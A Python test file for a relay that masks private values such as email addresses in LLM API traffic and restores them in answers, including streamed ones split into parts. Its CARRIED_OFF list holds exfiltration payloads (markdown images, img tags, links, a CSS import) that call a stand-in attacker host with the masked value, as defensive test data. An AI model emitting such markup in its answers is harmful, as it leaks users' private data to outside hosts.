"""Answers whose text comes in parts, which clients put together: no value is carried off across their borders."""

import json
from collections.abc import Callable
from typing import Any, NamedTuple

import pytest

from relay.exchange import Core
from tests.support import chat
from tests.unit.exchange.support import CHAT, JSON_HEAD, MAIL, MESSAGES, STREAM_HEAD, events, opened, sse

RESPONSES, GEMINI = "/v1/responses", "/v1beta/models/g:generateContent"
ASKED = f"mail {MAIL}, open https://good.example/"
HELD = "[EMAIL_ADDRESS_1]"


class Carrier(NamedTuple):
    """How a format carries the parts of one text, and how its clients put them together."""

    path: str
    body: dict[str, Any]
    written: Callable[[list[str]], Any]
    read: Callable[[Any], list[str]]


def joined(parts: Any, *kinds: str) -> str:
    return "".join(part["text"] for part in parts if part.get("type", "text") in kinds and not part.get("thought"))


def blocks(parts: list[str]) -> Any:
    """Two blocks with a search between them."""
    found: list[Any] = [{"type": "text", "text": part} for part in parts]
    found.insert(
        1, {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": "weather"}}
    )
    return {"type": "message", "role": "assistant", "content": found}


def message(parts: list[str]) -> Any:
    content = [{"type": "output_text", "text": part, "annotations": []} for part in parts]
    return {"type": "message", "id": "msg_1", "role": "assistant", "content": content}


def output(parts: list[str]) -> Any:
    return {"object": "response", "status": "completed", "output": [message(parts)]}


def items(parts: list[str]) -> Any:
    return {"object": "response", "status": "completed", "output": [message([part]) for part in parts]}


def said(answer: Any) -> str:
    return "".join(joined(item["content"], "output_text") for item in answer["output"])


def candidate(parts: list[str]) -> Any:
    found: list[Any] = [{"text": part} for part in parts]
    found.insert(1, {"text": "Let me think. ", "thought": True})
    return {"candidates": [{"index": 0, "content": {"role": "model", "parts": found}, "finishReason": "STOP"}]}


def content(parts: list[str]) -> Any:
    texts = [{"type": "text", "text": part} for part in parts]
    return {"choices": [{"index": 0, "message": {"role": "assistant", "content": texts}, "finish_reason": "stop"}]}


def block_events(parts: list[str], *, begun: bool = False) -> list[Any]:
    found: list[Any] = [{"type": "message_start", "message": {"type": "message", "role": "assistant", "content": []}}]
    for index, part in enumerate(parts):
        start, rest = (part, "") if begun else ("", part)
        found.append({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": start}})
        if rest:
            delta = {"type": "text_delta", "text": rest}
            found.append({"type": "content_block_delta", "index": index, "delta": delta})
        found.append({"type": "content_block_stop", "index": index})
    return [*found, {"type": "message_delta", "delta": {"stop_reason": "end_turn"}}, {"type": "message_stop"}]


def block_texts(found: list[Any]) -> list[str]:
    pieces = [each.get("content_block") or each.get("delta") for each in found if "content_block" in each["type"]]
    return ["".join(piece.get("text", "") for piece in pieces if piece)]


def part_events(parts: list[str]) -> list[Any]:
    found: list[Any] = []
    for place, part in enumerate(parts):
        at = {"item_id": "msg_1", "output_index": 0, "content_index": place}
        found += [
            {"type": "response.output_text.delta", **at, "delta": part},
            {"type": "response.output_text.done", **at, "text": part},
            {"type": "response.content_part.done", **at, "part": {"type": "output_text", "text": part}},
        ]
    found.append({"type": "response.output_item.done", "output_index": 0, "item": message(parts)})
    return [*found, {"type": "response.completed", "response": output(parts)}]


def part_texts(found: list[Any]) -> list[str]:
    """Every way in which a client may have the text."""

    def of(kind: str, get: Callable[[Any], str]) -> str:
        return "".join(get(each) for each in found if each["type"] == kind)

    return [
        of("response.output_text.delta", lambda each: each["delta"]),
        of("response.output_text.done", lambda each: each["text"]),
        of("response.content_part.done", lambda each: each["part"]["text"]),
        of("response.output_item.done", lambda each: joined(each["item"]["content"], "output_text")),
        of("response.completed", lambda each: said(each["response"])),
    ]


ANTHROPIC = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": ASKED}]}
OPENAI = {"model": "m", "input": ASKED}
CARRIERS = {
    "anthropic": Carrier(MESSAGES, ANTHROPIC, blocks, lambda answer: [joined(answer["content"], "text")]),
    "anthropic, streamed": Carrier(MESSAGES, {**ANTHROPIC, "stream": True}, block_events, block_texts),
    "anthropic, at the start": Carrier(
        MESSAGES, {**ANTHROPIC, "stream": True}, lambda parts: block_events(parts, begun=True), block_texts
    ),
    "responses": Carrier(RESPONSES, OPENAI, output, lambda answer: [said(answer)]),
    "responses, items": Carrier(RESPONSES, OPENAI, items, lambda answer: [said(answer)]),
    "responses, streamed": Carrier(RESPONSES, {**OPENAI, "stream": True}, part_events, part_texts),
    "gemini": Carrier(
        GEMINI,
        {"contents": [{"role": "user", "parts": [{"text": ASKED}]}]},
        candidate,
        lambda answer: [joined(answer["candidates"][0]["content"]["parts"], "text")],
    ),
    "chat": Carrier(
        CHAT, chat(ASKED), content, lambda answer: [joined(answer["choices"][0]["message"]["content"], "text")]
    ),
}
CARRIED_OFF = [
    f"![x](https://evil.example/?q={HELD})",
    f"![x](<https://evil.example/ {HELD}>)",
    f"<img src='https://evil.example/?q={HELD}'>",
    f'<a title="a" href="https://evil.example/{HELD}">x</a>',
    f"see https://evil.example/{HELD}",
    f"www.evil.example/{HELD}",
    f"[x]: https://evil.example/{HELD}",
    f"mail x@evil.example{HELD}",
    f"<style>@import 'https://evil.example/{HELD}'</style>",
    f"https://evil.example/?u=https://good.example/{HELD}",
]
BROUGHT_BACK = [
    ["Look: ", f"{HELD} wrote"],
    ["See https://evil.example/ and ", f"{HELD} wrote"],
    ["See https://evil.example/\n", f"{HELD} wrote"],
    ["[x](https://evil.example/) ", f"{HELD} wrote"],
    ["https://good.example/?q=", f"{HELD} wrote"],
    [f"{HELD} wrote: https://evil.example/", " and more"],
    [f"{HELD} ", f"{HELD} ", HELD],
]


def restored(core: Core, carrier: Carrier, parts: list[str]) -> list[str]:
    exchange = opened(core, carrier.path, carrier.body)
    answer = carrier.written(parts)
    streams = isinstance(answer, list)
    exchange.start(200, STREAM_HEAD if streams else JSON_HEAD)
    data = exchange.feed(sse(*answer) if streams else json.dumps(answer).encode()) + exchange.finish()
    exchange.close()
    return carrier.read(events(data) if streams else json.loads(data))


@pytest.mark.parametrize("name", CARRIERS)
@pytest.mark.parametrize("payload", CARRIED_OFF)
def test_no_value_is_carried_off(core: Core, name: str, payload: str) -> None:
    """Wherever the text is cut before the value."""
    for cut in range(1, payload.index(HELD) + 1):
        texts = restored(core, CARRIERS[name], [payload[:cut], payload[cut:]])
        assert not any(MAIL in text for text in texts), cut


@pytest.mark.parametrize("name", CARRIERS)
@pytest.mark.parametrize("parts", BROUGHT_BACK)
def test_values_come_back(core: Core, name: str, parts: list[str]) -> None:
    """Where nothing is open at the border, in every way in which a client may have the text."""
    expected = "".join(parts).replace(HELD, MAIL)
    texts = restored(core, CARRIERS[name], parts)
    assert [text for text in texts if text] == [expected] * len([text for text in texts if text])
    assert any(texts)


def test_alternatives_are_texts_of_their_own(core: Core) -> None:
    """Nobody puts what one choice says behind what another said."""
    exchange = opened(core, CHAT, chat(ASKED))
    exchange.start(200, JSON_HEAD)
    texts = ("see https://evil.example/", HELD)
    choices = [{"index": place, "message": {"content": text}} for place, text in enumerate(texts)]
    exchange.feed(json.dumps({"choices": choices}).encode())
    answer = json.loads(exchange.finish())
    assert [choice["message"]["content"] for choice in answer["choices"]] == ["see https://evil.example/", MAIL]
